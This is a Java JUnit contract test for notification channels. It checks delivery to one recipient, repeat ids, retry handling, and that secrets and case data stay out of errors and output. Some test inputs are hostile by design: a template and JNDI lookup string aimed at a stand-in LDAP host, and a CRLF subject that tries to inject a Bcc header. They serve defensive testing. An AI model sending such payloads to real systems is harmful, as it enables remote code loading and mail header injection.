package org.quietbell.channel;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.quietbell.Covers;
import org.quietbell.http.Fault;
import org.quietbell.notice.ChannelId;
import org.quietbell.notice.Level;
import org.quietbell.notice.NoticeId;

/// What every channel keeps to. A channel's test extends it and plays the other side.
///
/// The time-out is no measure: it ends a test whose channel hangs, which is a failure.
@Timeout(value = 60, unit = TimeUnit.SECONDS, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
abstract class ChannelContractKit {
    static final ChannelId ID = new ChannelId("way");
    static final Instant AT = Instant.parse("2026-03-01T18:00:00Z");
    static final String CASE = "case-zebra";
    static final String RECIPIENT = "helper-quagga";
    static final String HIT = "hitokapi23456777";

    /// A channel to another side that takes everything.
    abstract Channel channel();

    /// What the other side took over, in order.
    abstract List<Taken> taken();

    /// What was configured and may never be shown.
    abstract List<String> secrets();

    /// A channel to another side that fails, for each way to fail: every row of the error table, a
    /// redirect, a peer that never ends.
    abstract List<Refusal> refusals();

    /// Whether case, recipient and hits must stay here. Only a file may hold them.
    boolean staysHere() {
        return true;
    }

    /// Whether a service knows a repeat by an id. Some do not, and show it twice.
    boolean knowsRepeats() {
        return true;
    }

    /// @param recipients to whom it went, as the other side saw it
    /// @param stableId by which a repeat is recognised
    /// @param subject as a person would see it
    /// @param body as a person would see it
    /// @param whole everything that came over the wire, decoded
    record Taken(
            List<String> recipients, String stableId, String subject, String body, String whole) {}

    /// @param notBefore what the other side asked for
    record Refusal(String what, Channel channel, Fault.Kind kind, Optional<Instant> notBefore) {
        Refusal(String what, Channel channel, Fault.Kind kind) {
            this(what, channel, kind, Optional.empty());
        }

        @Override
        public String toString() {
            return what;
        }
    }

    static Message message(String notice, String subject, String body) {
        return new Message(
                new NoticeId(notice),
                CASE,
                ID,
                RECIPIENT,
                AT,
                Level.DISCREET,
                subject,
                body,
                List.of(HIT));
    }

    static Message message(String notice) {
        return message(notice, "When you have time", "There is something for you.\nIt will wait.");
    }

    @Test
    @Covers({"R2.2"})
    void sendsOneMessageToExactlyOneRecipient() {
        Delivery delivery = channel().send(message("n1"));

        assertThat(delivery).isEqualTo(new Delivery.Delivered());
        assertThat(taken()).hasSize(1);
        assertThat(taken().getFirst().recipients()).hasSize(1);
        assertThat(taken().getFirst().subject()).isEqualTo("When you have time");
        assertThat(taken().getFirst().body().strip().lines().toList())
                .containsExactly("There is something for you.", "It will wait.");
    }

    @Test
    @Covers({"F57"})
    void givesARepeatTheSameIdAndAnotherNoticeAnother() {
        Channel channel = channel();

        channel.send(message("n1"));
        channel.send(message("n1"));
        channel.send(message("n2"));

        if (!knowsRepeats()) {
            assertThat(taken().get(1).whole()).isEqualTo(taken().get(0).whole());
            return;
        }
        List<String> ids = taken().stream().map(Taken::stableId).toList();
        assertThat(ids).hasSize(3).doesNotContain("");
        assertThat(ids.get(1)).isEqualTo(ids.get(0));
        assertThat(ids.get(2)).isNotEqualTo(ids.get(0));
    }

    @Test
    @Covers({"F10"})
    void leavesTheSyntaxOfTemplatesAsItStands() {
        String odd = "{{7*7}} ${jndi:ldap://odd.example/a} %n %s <b>Zo\u00eb</b>";

        channel().send(message("n1", odd, odd));

        assertThat(taken().getFirst().subject()).isEqualTo(odd);
        assertThat(taken().getFirst().body().strip()).isEqualTo(odd);
    }

    @Test
    @Covers({"F11"})
    void aLineEndInASubjectAddsNeitherALineNorARecipient() {
        channel().send(message("n1", "Soon\r\nBcc: other@example.org\r\n\r\nmore", "Text"));

        assertThat(taken()).hasSize(1);
        assertThat(taken().getFirst().recipients()).hasSize(1);
        assertThat(taken().getFirst().body().strip()).isEqualTo("Text");
        assertThat(taken().getFirst().subject()).contains("Soon").contains("more");
    }

    @Test
    void keepsCaseRecipientAndHitsToItself() {
        channel().send(message("n1"));

        if (staysHere()) {
            assertThat(taken().getFirst().whole()).doesNotContain(CASE, RECIPIENT, HIT);
        }
    }

    @Test
    @Covers({"F59", "F61"})
    void saysLaterForWhatPassesAndNeverForWhatDoesNot() {
        for (Refusal refusal : refusals()) {
            Delivery delivery = refusal.channel().send(message("n1"));

            if (refusal.kind().isPassing()) {
                assertThat(delivery)
                        .as(refusal.what())
                        .isInstanceOfSatisfying(
                                Delivery.Later.class,
                                later -> {
                                    assertThat(later.fault().kind()).isEqualTo(refusal.kind());
                                    assertThat(later.notBefore()).isEqualTo(refusal.notBefore());
                                });
            } else {
                assertThat(delivery)
                        .as(refusal.what())
                        .isInstanceOfSatisfying(
                                Delivery.Never.class,
                                never ->
                                        assertThat(never.fault().kind()).isEqualTo(refusal.kind()));
            }
        }
    }

    @Test
    @Covers({"R2.2"})
    void showsNoSecretInAFaultOrWhenPrinted() {
        Message message = message("n1");
        for (Refusal refusal : refusals()) {
            String shown = refusal.channel().send(message) + " " + refusal.channel();

            assertThat(shown).as(refusal.what()).doesNotContain(secrets());
            assertThat(shown).doesNotContain(CASE, RECIPIENT, HIT, message.subject());
        }
        assertThat(channel().toString()).doesNotContain(secrets());
        assertThat(message.toString()).doesNotContain(CASE, RECIPIENT, HIT, message.subject());
    }
}
